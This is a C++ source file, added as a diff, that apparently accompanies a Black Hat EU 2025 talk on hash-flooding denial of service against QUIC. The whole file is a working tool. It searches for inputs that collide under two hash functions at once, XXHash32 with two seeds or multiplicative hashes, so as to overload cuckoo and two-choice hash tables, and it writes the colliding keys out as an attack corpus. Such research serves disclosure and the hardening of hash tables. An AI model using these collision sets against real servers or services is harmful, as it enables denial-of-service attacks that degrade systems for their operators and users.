@@ -0,0 +1,473 @@
+// joint_collisions.cpp
+// Inputs colliding under two hash functions at once, against cuckoo and two-choice tables
+// Author: Paul Bottinelli
+// For Black Hat EU 2025 - Cut to the QUIC: Slashing QUIC's Performance with a Hash DoS
+//
+// A cuckoo or power-of-two-choices table places every key in one of two buckets, given by
+// two independent hashes h1 and h2, so flooding it takes keys that collide under both. The
+// first hash is attacked with the existing engines (the differential search of lsquic/ for
+// XXHash32, the native meet-in-the-middle engine for multiplicative hashes), which produces
+// a stream of inputs sharing h1 for a small cost each. Only those inputs are hashed with h2,
+// and they are bucketed on its value (or its low bits, for a table index) until one bucket
+// holds the requested number of keys: a birthday search among h1 collisions.
+//
+// The report gives the work spent on h1 and the number of h1 collisions that were needed,
+// next to the number expected if h2 were independent of h1: when the two hashes share
+// structure (e.g. XXHash32 under two seeds, whose differentials are seed-independent), far
+// fewer are needed.
+
+#include <algorithm>
+#include <array>
+#include <chrono>
+#include <cmath>
+#include <cstdint>
+#include <fstream>
+#include <iomanip>
+#include <iostream>
+#include <random>
+#include <stdexcept>
+#include <string>
+#include <unordered_map>
+#include <vector>
+#include "../common/corpus.h"
+#include "../common/hex_format.h"
+#include "../lsquic/differential.h"
+#include "../lsquic/xxhash32.h"
+#include "../multiplicative-hash-mitm/charset.h"
+#include "../multiplicative-hash-mitm/mitm.h"
+#include "../multiplicative-hash-mitm/multiplicative_hash.h"
+
+// Configuration constants (multiplicative defaults match generic_mitm.py)
+constexpr uint64_t DEFAULT_N_KEYS = 16;
+constexpr size_t DEFAULT_PREFIX_SIZE = 7;
+constexpr size_t DEFAULT_SUFFIX_SIZE = 3;
+constexpr uint64_t DEFAULT_INITIAL_VALUE = 5387;
+constexpr uint64_t DEFAULT_MULTIPLIER = 31;
+constexpr uint64_t DEFAULT_MAX_CANDIDATES = uint64_t(1) << 24;
+constexpr double MITM_FILTER_BITS = 8;
+constexpr uint64_t MITM_ROUND = 4096;  // h1 collisions per meet-in-the-middle search call
+
+// A 32-bit hash model: "xxh32[:seed]" or "mult[:initial[:multiplier]]"
+struct HashModel {
+    enum class Kind { Xxh32, Mult };
+    Kind kind = Kind::Xxh32;
+    uint32_t seed = 0;
+    MultiplicativeHash mult{DEFAULT_INITIAL_VALUE, DEFAULT_MULTIPLIER, 32};
+
+    static HashModel parse(const std::string& text) {
+        std::vector<std::string> fields;
+        size_t start = 0;
+        for (size_t colon; (colon = text.find(':', start)) != std::string::npos; start = colon + 1) {
+            fields.push_back(text.substr(start, colon - start));
+        }
+        fields.push_back(text.substr(start));
+
+        HashModel model;
+        if (fields[0] == "xxh32" && fields.size() <= 2) {
+            model.kind = Kind::Xxh32;
+            if (fields.size() == 2) {
+                model.seed = static_cast<uint32_t>(std::stoul(fields[1], nullptr, 0));
+            }
+        } else if (fields[0] == "mult" && fields.size() <= 3) {
+            model.kind = Kind::Mult;
+            const uint64_t initial_value =
+                fields.size() >= 2 ? std::stoull(fields[1], nullptr, 0) : DEFAULT_INITIAL_VALUE;
+            const uint64_t multiplier =
+                fields.size() == 3 ? std::stoull(fields[2], nullptr, 0) : DEFAULT_MULTIPLIER;
+            model.mult = MultiplicativeHash(initial_value, multiplier, 32);
+        } else {
+            throw std::invalid_argument("unknown hash model " + text +
+                                        " (expected xxh32[:seed] or mult[:initial[:multiplier]])");
+        }
+        return model;
+    }
+
+    uint32_t operator()(const uint8_t* data, size_t length) const {
+        if (kind == Kind::Xxh32) {
+            return XXHash32::hash(data, length, seed);
+        }
+        return static_cast<uint32_t>(mult.hash(data, length));
+    }
+
+    // The model in the syntax parse reads, as recorded in corpus files
+    std::string spec() const {
+        if (kind == Kind::Xxh32) {
+            return "xxh32:" + std::to_string(seed);
+        }
+        return "mult:" + std::to_string(mult.initial_value()) + ":" + std::to_string(mult.multiplier());
+    }
+
+    std::string name() const {
+        if (kind == Kind::Xxh32) {
+            return "XXHash32 (seed " + std::to_string(seed) + ")";
+        }
+        return "multiplicative (initial value " + std::to_string(mult.initial_value()) +
+               ", multiplier " + std::to_string(mult.multiplier()) + ")";
+    }
+};
+
+// Inputs of a fixed length bucketed on their h2 value, chained by insertion order
+class JointBuckets {
+public:
+    JointBuckets(size_t length, uint32_t mask) : length_(length), mask_(mask) {}
+
+    // Returns the size of the bucket of key after adding it. A key already in the bucket,
+    // found again by a later search, is not added twice.
+    uint64_t add(const uint8_t* key, uint32_t h2) {
+        Bucket& bucket = buckets_[h2 & mask_];
+        for (uint32_t i = bucket.head, left = static_cast<uint32_t>(bucket.size); left-- > 0; i = next_[i]) {
+            if (std::equal(key, key + length_, &keys_[size_t(i) * length_])) {
+                return bucket.size;
+            }
+        }
+        next_.push_back(bucket.size == 0 ? NONE : bucket.head);
+        keys_.insert(keys_.end(), key, key + length_);
+        bucket.head = static_cast<uint32_t>(next_.size() - 1);
+        return ++bucket.size;
+    }
+
+    uint64_t candidates() const noexcept { return next_.size(); }
+
+    // Keys of the bucket of value, most recent first
+    std::vector<std::vector<uint8_t>> keys(uint32_t value) const {
+        std::vector<std::vector<uint8_t>> result;
+        const auto it = buckets_.find(value & mask_);
+        if (it == buckets_.end()) {
+            return result;
+        }
+        for (uint32_t i = it->second.head, left = static_cast<uint32_t>(it->second.size); left-- > 0;
+             i = next_[i]) {
+            result.emplace_back(&keys_[size_t(i) * length_], &keys_[size_t(i) * length_] + length_);
+        }
+        return result;
+    }
+
+private:
+    static constexpr uint32_t NONE = UINT32_MAX;
+    struct Bucket {
+        uint32_t head = NONE;
+        uint64_t size = 0;
+    };
+
+    size_t length_;
+    uint32_t mask_;
+    std::unordered_map<uint32_t, Bucket> buckets_;
+    std::vector<uint8_t> keys_;
+    std::vector<uint32_t> next_;
+};
+
+double seconds_since(std::chrono::steady_clock::time_point start) {
+    return std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
+}
+
+// Number of independent uniform values over 2^bits buckets after which some bucket is
+// expected to hold n of them: sum over buckets of C(N, n) 2^(-bits (n-1)) reaches 1
+double expected_candidates(uint64_t n, unsigned bits) {
+    double log2_factorial = 0;
+    for (uint64_t i = 2; i <= n; ++i) {
+        log2_factorial += std::log2(static_cast<double>(i));
+    }
+    return std::exp2((log2_factorial + bits * static_cast<double>(n - 1)) / n);
+}
+
+void print_usage(const char* name) {
+    std::cerr << "Usage: " << name << " [--h1 model] [--h2 model] [-n keys] [--h2-bits bits]"
+              << " [-p prefix] [-s suffix] [-l length] [-c charset] [--spec spec] [-t target]"
+              << " [--table-bits bits] [--base hex] [--max-candidates n] [--seed seed]"
+              << " [-o output] [--corpus path] [--quiet|-q] [--test]" << std::endl;
+    std::cerr << "Hash models: xxh32[:seed], mult[:initial[:multiplier]]" << std::endl;
+}
+
+int main(int argc, char* argv[]) {
+    // Parse command line arguments
+    HashModel h1 = HashModel::parse("xxh32:0");
+    HashModel h2 = HashModel::parse("xxh32:1");
+    uint64_t n_keys = DEFAULT_N_KEYS;
+    unsigned h2_bits = 32;
+    size_t prefix_size = DEFAULT_PREFIX_SIZE;
+    size_t suffix_size = DEFAULT_SUFFIX_SIZE;
+    size_t length = 0;
+    ByteSet charset = ByteSet::any();
+    std::string spec_string;
+    bool has_target = false;
+    uint64_t target = 0;
+    unsigned table_bits = MeetInTheMiddle::MAX_TABLE_BITS;
+    bool has_base = false;
+    std::array<uint8_t, ARRAY_SIZE> base;
+    uint64_t max_candidates = DEFAULT_MAX_CANDIDATES;
+    bool has_seed = false;
+    uint64_t seed = 0;
+    std::string output;
+    std::string corpus_path;
+    bool quiet = false;
+    bool run_test = false;
+
+    try {
+        for (int i = 1; i < argc; i++) {
+            const std::string arg = argv[i];
+            auto value = [&]() -> std::string {
+                if (i + 1 >= argc) {
+                    throw std::invalid_argument("missing value for " + arg);
+                }
+                return argv[++i];
+            };
+
+            if (arg == "--h1") {
+                h1 = HashModel::parse(value());
+            } else if (arg == "--h2") {
+                h2 = HashModel::parse(value());
+            } else if (arg == "-n" || arg == "--keys") {
+                n_keys = std::stoull(value(), nullptr, 0);
+            } else if (arg == "--h2-bits") {
+                h2_bits = static_cast<unsigned>(std::stoul(value(), nullptr, 0));
+                if (h2_bits == 0 || h2_bits > 32) {
+                    throw std::invalid_argument("h2 bits must be between 1 and 32");
+                }
+            } else if (arg == "-p" || arg == "--prefix") {
+                prefix_size = std::stoul(value(), nullptr, 0);
+            } else if (arg == "-s" || arg == "--suffix") {
+                suffix_size = std::stoul(value(), nullptr, 0);
+            } else if (arg == "-l" || arg == "--length") {
+                length = std::stoul(value(), nullptr, 0);
+            } else if (arg == "-c" || arg == "--charset") {
+                charset = ByteSet::parse(value());
+            } else if (arg == "--spec") {
+                spec_string = value();
+            } else if (arg == "-t" || arg == "--target") {
+                target = std::stoull(value(), nullptr, 0);
+                has_target = true;
+            } else if (arg == "--table-bits") {
+                table_bits = static_cast<unsigned>(std::stoul(value(), nullptr, 0));
+            } else if (arg == "--base") {
+                const std::string hex = value();
+                uint64_t bytes = 0;
+                if (hex.size() != 2 * ARRAY_SIZE ||
+                    hex.find_first_not_of("0123456789abcdefABCDEF") != std::string::npos) {
+                    throw std::invalid_argument("--base expects " + std::to_string(2 * ARRAY_SIZE) +
+                                                " hexadecimal digits");
+                }
+                bytes = std::stoull(hex, nullptr, 16);
+                for (size_t k = 0; k < ARRAY_SIZE; ++k) {
+                    base[k] = static_cast<uint8_t>(bytes >> (8 * (ARRAY_SIZE - 1 - k)));
+                }
+                has_base = true;
+            } else if (arg == "--max-candidates") {
+                max_candidates = std::stoull(value(), nullptr, 0);
+            } else if (arg == "--seed") {
+                seed = std::stoull(value(), nullptr, 0);
+                has_seed = true;
+            } else if (arg == "-o" || arg == "--output") {
+                output = value();
+            } else if (arg == "--corpus") {
+                corpus_path = value();
+            } else if (arg == "--quiet" || arg == "-q") {
+                quiet = true;
+            } else if (arg == "--test") {
+                run_test = true;
+            } else {
+                throw std::invalid_argument("unknown argument " + arg);
+            }
+        }
+        if (n_keys < 2) {
+            throw std::invalid_argument("number of keys must be at least 2");
+        }
+        if (max_candidates == 0 || max_candidates >= UINT32_MAX) {
+            throw std::invalid_argument("maximum number of candidates must be between 1 and 2^32 - 1");
+        }
+    } catch (const std::exception& e) {
+        std::cerr << "Error: " << e.what() << std::endl;
+        print_usage(argv[0]);
+        return 1;
+    }
+
+    try {
+        if (!has_seed) {
+            seed = std::random_device{}() ^ (uint64_t(std::random_device{}()) << 32);
+        }
+        std::mt19937_64 rng(seed);
+        const uint32_t h2_mask = h2_bits == 32 ? UINT32_MAX : (uint32_t(1) << h2_bits) - 1;
+
+        // Inputs of the h1 engine
+        CharsetSpec spec;
+        if (h1.kind == HashModel::Kind::Xxh32) {
+            if (length != 0 && length != ARRAY_SIZE) {
+                throw std::invalid_argument("the XXHash32 differential search produces " +
+                                            std::to_string(ARRAY_SIZE) + "-byte inputs");
+            }
+            length = ARRAY_SIZE;
+        } else {
+            if (!spec_string.empty()) {
+                spec = CharsetSpec::parse(spec_string);
+                length = spec.length();
+            }
+            if (length != 0) {
+                if (length <= suffix_size) {
+                    throw std::invalid_argument("length must be larger than the suffix size");
+                }
+                prefix_size = length - suffix_size;
+            }
+            length = prefix_size + suffix_size;
+            if (spec_string.empty()) {
+                spec = CharsetSpec::uniform(length, charset);
+            }
+        }
+
+        std::cout << "h1: " << h1.name() << std::endl;
+        std::cout << "h2: " << h2.name() << ", " << h2_bits << " bits" << std::endl;
+
+        JointBuckets buckets(length, h2_mask);
+        uint64_t h1_work = 0;  // differential candidates or prefixes tried
+        uint32_t h1_value = 0;
+        bool done = false;
+        uint32_t joint_h2 = 0;
+        // Returns false once some bucket holds n_keys keys or the candidate budget is spent
+        auto add_candidate = [&](const uint8_t* key) {
+            if (h1(key, length) != h1_value) {
+                return true;  // a differential that does not hold for this seed
+            }
+            const uint32_t v = h2(key, length) & h2_mask;
+            if (buckets.add(key, v) >= n_keys) {
+                joint_h2 = v;
+                done = true;
+            }
+            return !done && buckets.candidates() < max_candidates;
+        };
+
+        const auto start = std::chrono::steady_clock::now();
+        if (h1.kind == HashModel::Kind::Xxh32) {
+            // The differentials are found for seed 0 but verified over random seeds, so the
+            // inputs they yield also collide under h1's seed
+            if (!has_base) {
+                for (auto& byte : base) {
+                    byte = static_cast<uint8_t>(rng());
+                }
+            }
+            h1_value = h1(base.data(), ARRAY_SIZE);
+            std::cout << "Base array: " << hex_format::hex_string(base.data(), base.size()) << std::endl;
+            std::mt19937 diff_rng(static_cast<uint32_t>(rng()));
+            if (add_candidate(base.data())) {
+                h1_work = search_differences(
+                    base.data(), diff_rng, nullptr,
+                    [&](uint32_t diff1, uint32_t diff2) {
+                        const auto key = apply_diffs_to_array(base.data(), diff1, diff2);
+                        return add_candidate(key.data());
+                    },
+                    [](uint64_t, uint64_t, uint64_t) {});
+            }
+        } else {
+            MeetInTheMiddle mitm(h1.mult, prefix_size, suffix_size, spec, table_bits);
+            mitm.set_filter_bits(MITM_FILTER_BITS);
+            h1_value = static_cast<uint32_t>(has_target ? target : rng());
+            mitm.precompute(h1_value);
+            std::cout << "Table of " << mitm.stored_entries() << " suffixes, " << mitm.prefix_count()
+                      << " prefixes" << std::endl;
+            // The h1 collisions found close together in prefix order share their leading bytes
+            // and differ little, and they collide under h2 (XXHash32 in particular) far less
+            // often than random inputs would. Each round therefore restarts from a random
+            // prefix, unless the prefix space is small enough to be searched exhaustively.
+            // Random rounds may overlap; JointBuckets keeps a key found twice once.
+            bool more = true;
+            auto emit = [&](const uint8_t* key, size_t) { more = more && add_candidate(key); };
+            if (mitm.prefix_count() <= (uint64_t(1) << 32)) {
+                PrefixRange range(mitm.prefix_count(), rng());
+                while (more && range.claimed() < range.count()) {
+                    h1_work += mitm.search(MITM_ROUND, range, emit, SearchMode::Probe);
+                }
+            } else {
+                while (more) {
+                    PrefixRange round(mitm.prefix_count(), rng());
+                    h1_work += mitm.search(MITM_ROUND, round, emit, SearchMode::Probe);
+                }
+            }
+        }
+        const double elapsed = seconds_since(start);
+
+        // Work factor report
+        const uint64_t n_candidates = buckets.candidates();
+        const double expected = expected_candidates(n_keys, h2_bits);
+        std::cout << "\n=== Work Factor ===" << std::endl;
+        std::cout << std::fixed << std::setprecision(1);
+        std::cout << "h1 work: " << h1_work << " "
+                  << (h1.kind == HashModel::Kind::Xxh32 ? "differential candidates" : "prefixes")
+                  << " (2^" << std::log2(std::max<uint64_t>(h1_work, 1)) << ")" << std::endl;
+        std::cout << "h1 collisions checked under h2: " << n_candidates << " (2^"
+                  << std::log2(std::max<uint64_t>(n_candidates, 1)) << "), expected 2^"
+                  << std::log2(expected) << " for an independent h2" << std::endl;
+        std::cout << "Time: " << std::setprecision(2) << elapsed << " s" << std::endl;
+        std::cout.unsetf(std::ios::floatfield);
+        if (!done) {
+            std::cerr << "Warning: no " << n_keys << " joint collisions within " << n_candidates
+                      << " h1 collisions; raise --max-candidates, lower --h2-bits or -n, or use "
+                      << "longer inputs" << std::endl;
+            return 1;
+        }
+
+        const auto keys = buckets.keys(joint_h2);
+        std::cout << "Found " << keys.size() << " keys with h1 = 0x" << std::hex << h1_value
+                  << " and h2 = 0x" << joint_h2 << std::dec;
+        if (h2_bits < 32) {
+            std::cout << " (low " << h2_bits << " bits)";
+        }
+        std::cout << ", " << std::setprecision(3) << static_cast<double>(n_candidates) / keys.size()
+                  << " h1 collisions per joint key" << std::endl;
+
+        std::ofstream output_file;
+        if (!output.empty()) {
+            output_file.open(output);
+            if (!output_file) {
+                std::cerr << "Error: Could not open output file '" << output << "'" << std::endl;
+                return 1;
+            }
+        }
+        if (!quiet) {
+            hex_format::Buffer text(output.empty() ? std::cout : output_file);
+            for (const auto& key : keys) {
+                text.hex(key.data(), key.size()).put('\n');
+            }
+        }
+        if (!output.empty()) {
+            std::cout << "Keys written to " << output << std::endl;
+        }
+        // The corpus header holds h1, the parameters the h2 bucket the keys share
+        if (!corpus_path.empty()) {
+            CorpusInfo info;
+            info.model = h1.spec();
+            info.target = h1_value;
+            info.target_mask = UINT32_MAX;
+            info.seed = seed;
+            info.param("generator", "joint_collisions")
+                .param("h2", h2.spec())
+                .param("h2_target", joint_h2 & h2_mask)
+                .param("h2_mask", h2_mask);
+            CorpusWriter corpus(corpus_path, info, length);
+            for (const auto& key : keys) {
+                corpus.add(key.data(), key.size());
+            }
+            corpus.finish();
+            std::cout << corpus.size() << " keys written to corpus " << corpus_path << std::endl;
+        }
+
+        if (run_test) {
+            uint64_t passed = 0;
+            for (size_t i = 0; i < keys.size(); ++i) {
+                const auto previous = keys.begin() + i;
+                const bool distinct = std::find(keys.begin(), previous, keys[i]) == previous;
+                passed += distinct && h1(keys[i].data(), length) == h1_value &&
+                          (h2(keys[i].data(), length) & h2_mask) == joint_h2;
+            }
+            std::cout << "\n=== Test Results ===" << std::endl;
+            std::cout << "Passed: " << passed << "/" << keys.size() << std::endl;
+            std::cout << "Failed: " << keys.size() - passed << "/" << keys.size() << std::endl;
+            if (passed != keys.size()) {
+                std::cout << "TEST FAILED: Some keys do not collide under both hashes" << std::endl;
+                return 1;
+            }
+            std::cout << "TEST PASSED: All keys collide under both hashes" << std::endl;
+        }
+    } catch (const std::exception& e) {
+        std::cerr << "Error: " << e.what() << std::endl;
+        return 1;
+    }
+
+    return 0;
+}